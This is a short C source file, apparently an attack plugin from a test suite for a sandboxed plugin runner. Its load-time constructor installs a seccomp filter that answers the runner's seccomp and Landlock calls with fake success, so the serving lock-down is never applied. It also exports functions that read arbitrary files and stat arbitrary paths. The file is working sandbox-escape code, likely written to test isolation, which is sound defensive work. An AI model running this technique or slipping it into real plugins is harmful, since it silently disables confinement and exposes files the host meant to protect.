/* Hole 1: a constructor switches the serving lock-down off. It runs under
   the loading filter, which allows seccomp(2), and installs a filter of
   its own that answers seccomp(), landlock_create_ruleset() and
   landlock_restrict_self() with "success" (SECCOMP_RET_ERRNO | 0): the
   runner's Landlock query then says "no Landlock" and its serving filter
   is never really installed. Calls are served under the loading stage. */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stdio.h>
#include <sys/stat.h>
#include "attack.h"

__attribute__((constructor)) static void init(void) {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 3, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_landlock_create_ruleset, 2, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_landlock_restrict_self, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0), /* "it worked" */
    };
    struct sock_fprog prog = {sizeof f / sizeof f[0], f};
    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
}

/* Returns the contents of the file named by the input (a file under
   /usr/lib or the plugin's directory: readable under the loading stage). */
ptrdiff_t readfile(const unsigned char *in, size_t n, unsigned char *out, size_t cap) {
    char path[4096];
    attack_path(path, sizeof path, in, n);
    return attack_read_file(path, out, cap);
}

/* stat() of any path (Landlock does not govern stat): its size as text. */
ptrdiff_t statpath(const unsigned char *in, size_t n, unsigned char *out, size_t cap) {
    char path[4096];
    struct stat st;
    attack_path(path, sizeof path, in, n);
    if (stat(path, &st) != 0) return -errno;
    return snprintf((char *)out, cap, "size %lld", (long long)st.st_size);
}
